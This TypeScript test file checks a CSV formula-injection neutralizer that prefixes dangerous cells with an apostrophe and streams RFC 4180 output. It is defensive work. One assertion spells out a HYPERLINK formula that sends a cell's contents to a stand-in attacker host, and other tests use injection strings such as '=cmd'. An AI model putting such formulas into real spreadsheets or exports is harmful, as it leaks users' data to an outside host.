import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createReadStream, readFileSync } from 'node:fs';
import { Readable } from 'node:stream';
import { text } from 'node:stream/consumers';
import { parse as parseSync } from 'csv-parse/sync';
import { neutralizeCell, neutralizeCsv } from '../../src/csv/neutralize.js';
import { PermanentError } from '../../src/errors.js';

const LIMITS = { maxColumns: 2_000, maxFieldBytes: 1024 * 1024 };
const fixtureUrl = (name: string) => new URL(`../fixtures/csv/${name}`, import.meta.url);
const neutralizeFixture = (name: string) => text(neutralizeCsv(createReadStream(fixtureUrl(name)), LIMITS));
const records = (csv: string | Buffer): string[][] => parseSync(csv, { bom: true, relax_column_count: true, relax_quotes: true, skip_empty_lines: true });

describe('neutralizeCell', () => {
  test('cells a spreadsheet would run as formulas get a leading apostrophe', () => {
    for (const cell of [
      '=1+2',
      '+cmd',
      '-2+3',
      '@SUM(A1)',
      '\tTAB',
      '\rCR',
      '=HYPERLINK("http://x")',
      '-',
      '+',
      '--1',
      '-1-1',
      '- 5',
      '＝1+2',
      '＋1',
      '－1',
      '＠x',
    ]) {
      assert.equal(neutralizeCell(cell), `'${cell}`, JSON.stringify(cell));
    }
  });

  test('plain numbers stay numbers, negative and signed ones included', () => {
    for (const cell of ['-12.5', '+3', '-0.5', '-7', '0', '12', '.5', '-.5', '1e3', '-1.5E-3', '+0']) {
      assert.equal(neutralizeCell(cell), cell, cell);
    }
  });

  test('ordinary text, empty cells and text with a formula character later on are untouched', () => {
    for (const cell of ['', 'Acme Water', 'a=b', "O'Brien", ' =not first', '2026-02-01T00:00:00.000Z', 'x@example.com']) {
      assert.equal(neutralizeCell(cell), cell, cell);
    }
  });

  test('every first character of the Basic Multilingual Plane is judged as the formula rule says', () => {
    // The rule written out once more, without the shortcut for ordinary first characters.
    const formulaStart = new Set(['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20']);
    for (let code = 0; code <= 0xffff; code++) {
      const cell = `${String.fromCharCode(code)}A1`;
      const expected = formulaStart.has(String.fromCharCode(code)) ? `'${cell}` : cell;
      if (neutralizeCell(cell) !== expected) assert.fail(`first character U+${code.toString(16).padStart(4, '0')}: ${JSON.stringify(neutralizeCell(cell))}`);
    }
  });
});

describe('neutralizeCsv', () => {
  test('every dangerous cell of the injection fixture is neutralized and nothing else changes', async () => {
    const original = records(readFileSync(fixtureUrl('formula-injection.csv')));
    const output = await neutralizeFixture('formula-injection.csv');
    const neutralized = records(output);
    assert.deepEqual(
      neutralized,
      original.map((row) => row.map(neutralizeCell)),
    );
    for (const cell of neutralized.flat()) {
      assert.ok(!/^[=+\-@\t\r]/u.test(cell) || /^[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$/iu.test(cell), `dangerous cell left: ${JSON.stringify(cell)}`);
    }
    assert.equal(neutralized[1]?.[2], `'=HYPERLINK("http://evil.example/?x="&A1;"Click me")`);
    assert.equal(neutralized[1]?.[4], '-12.5');
    assert.equal(neutralized[2]?.[3], '+3');
    assert.equal(neutralized[3]?.[5], "'\ttab-led");
    assert.equal(neutralized[4]?.[2], `'@Alice, the "admin"`);
    assert.equal(neutralized[4]?.[5], "'=cmd\nstill the same cell");
    assert.equal(neutralized[5]?.[5], "'-");
  });

  test('a cell starting with a carriage return is neutralized and stays one quoted cell', async () => {
    const output = await neutralizeFixture('formula-cr.csv');
    assert.deepEqual(records(output), [
      ['resourceType', 'resourceId', 'resourceName', 'deviceCount', 'payloadBillableCount', 'note'],
      ['application', '64b0c1d2e3f4a5b6c7d8e926', "'\rcarriage", '6', '7', 'ok'],
    ]);
    assert.ok(output.includes(`"'\rcarriage"`));
  });

  test('a clean report round-trips unchanged, record for record', async () => {
    for (const name of ['org-daily-tags.csv', 'app-monthly-sandbox.csv', 'quoted-names.csv', 'bom-crlf.csv']) {
      const output = await neutralizeFixture(name);
      assert.deepEqual(records(output), records(readFileSync(fixtureUrl(name))), name);
    }
  });

  test('output is RFC 4180: CRLF line ends, no BOM, quotes only where needed', async () => {
    const output = await neutralizeFixture('bom-crlf.csv');
    assert.ok(!output.startsWith('\uFEFF'));
    assert.ok(output.startsWith('resourceType,resourceId,'));
    assert.ok(output.endsWith('\r\n'));
    assert.doesNotMatch(output, /[^\r]\n/u);
    assert.ok(output.includes('"Borealis\r\nFarms"'));
    assert.ok(output.includes(',Acme Water,'));
  });

  test('ragged rows are kept as they are; blank lines are dropped', async () => {
    const output = await text(neutralizeCsv(Readable.from(['a,b\n\n1\n=2,3,4\n']), LIMITS));
    assert.equal(output, "a,b\r\n1\r\n'=2,3,4\r\n");
  });

  test('an empty file gives an empty output', async () => {
    assert.equal(await neutralizeFixture('empty.csv'), '');
  });

  test('a header cell is neutralized too', async () => {
    assert.equal(await text(neutralizeCsv(Readable.from(['=evil,ok\n1,2\n']), LIMITS)), "'=evil,ok\r\n1,2\r\n");
  });

  test('the CSV limits apply: too many columns destroys the output stream with the PermanentError', async () => {
    await assert.rejects(
      text(neutralizeCsv(Readable.from(['a,b,c,d\n']), { maxColumns: 3, maxFieldBytes: 100 })),
      (error) => error instanceof PermanentError && error.code === 'csv_too_many_columns',
    );
  });

  test('streams: output starts before the input is fully read, and every row comes through', async () => {
    const total = 50_000;
    let produced = 0;
    let producedAtFirstOutput: number | null = null;
    const input = Readable.from(
      (function* () {
        let batch = 'resourceName,payloadBillableCount\n';
        for (let i = 0; i < total; i += 1) {
          produced += 1;
          batch += `${i % 2 === 0 ? '=cmd' : 'name'}${i},${-i}\n`;
          if (batch.length >= 64 * 1024) {
            yield batch;
            batch = '';
          }
        }
        yield batch;
      })(),
    );
    let lines = 0;
    let neutralized = 0;
    let tail = '';
    for await (const chunk of neutralizeCsv(input, LIMITS)) {
      producedAtFirstOutput ??= produced;
      const parts = (tail + String(chunk)).split('\r\n');
      tail = parts.pop() ?? '';
      lines += parts.length;
      neutralized += parts.filter((line) => line.startsWith("'=cmd")).length;
    }
    assert.equal(lines, total + 1);
    assert.equal(neutralized, total / 2);
    assert.ok(producedAtFirstOutput !== null && producedAtFirstOutput < total, `first output after ${producedAtFirstOutput} of ${total} rows`);
  });
});
